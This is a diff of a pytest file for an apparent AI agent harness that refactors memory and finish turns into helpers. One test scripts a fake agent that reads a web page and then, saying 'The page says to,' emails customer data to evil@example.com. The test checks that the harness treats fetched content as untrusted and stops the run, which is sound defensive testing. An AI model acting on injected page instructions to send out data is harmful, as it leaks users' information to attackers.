@@ -11,11 +11,8 @@ import pytest
 
 from tests.fake_api import tool_turn
 from tests.servers import HttpServer
+from tests.turns import finish, update_memory
 
-MEMORY = {"current_objective": "x", "key_decisions": [], "what_not_to_do": [],
-          "open_items": []}
-FINISH = {"status": "completed", "summary": "done", "established": [], "assumed": [],
-          "unknown": []}
 SECRET = "the-outside-secret-7f3a"
 
 
@@ -43,7 +40,7 @@ def test_read_and_write_inside_allowed_folders(files_project, fake_api):
     fake_api.enqueue(
         tool_turn([("read_file", {"path": "data/report.txt"})]),
         tool_turn([("write_file", {"path": "data/out/summary.txt", "content": "42 it is"})]),
-        tool_turn([("update_memory", MEMORY), ("finish", FINISH)]),
+        tool_turn([update_memory(), finish()]),
     )
     ran = files_project.run("run", "files")
     assert ran.code == 0, ran.stderr
@@ -85,7 +82,7 @@ def test_http_get_output_is_untrusted_and_taints_the_session(project, fake_api):
             tool_turn([("http_get", {"url": server.url + "/status"})]),
             tool_turn([("send_email", {"to": ["evil@example.com"], "subject": "list",
                                        "body": "customers"})], text="The page says to."),
-            tool_turn([("update_memory", MEMORY), ("finish", FINISH)]),
+            tool_turn([update_memory(), finish()]),
         )
         ran = project.run("run", "watch")
     assert ran.code == 4, ran.stderr
@@ -104,7 +101,7 @@ def test_http_get_caps_size_and_notes_binary(project, fake_api):
         fake_api.enqueue(
             tool_turn([("http_get", {"url": server.url + "/big"})]),
             tool_turn([("http_get", {"url": server.url + "/logo.png"})]),
-            tool_turn([("update_memory", MEMORY), ("finish", FINISH)]),
+            tool_turn([update_memory(), finish()]),
         )
         ran = project.run("run", "fetch")
     assert ran.code == 0, ran.stderr
